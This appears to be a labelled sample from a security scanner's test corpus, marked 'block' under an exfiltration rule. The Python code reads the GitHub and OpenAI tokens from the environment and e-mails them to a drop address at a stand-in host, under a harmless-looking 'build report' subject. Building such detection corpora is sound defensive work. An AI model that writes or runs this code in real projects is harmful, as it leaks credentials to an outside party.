# pyguard-corpus: verdict=block category=exfil rules=PG601
# what: e-mails the GitHub and OpenAI tokens from the environment through smtplib
import os
import smtplib
from email.message import EmailMessage

message = EmailMessage()
message["From"] = "ci@example.org"
message["To"] = "drop@example.net"
message["Subject"] = "build report"
message.set_content(f"gh={os.environ.get('GITHUB_TOKEN')}\noa={os.getenv('OPENAI_API_KEY')}")

with smtplib.SMTP("mail.example.net", 587) as smtp:
    smtp.starttls()
    smtp.send_message(message)
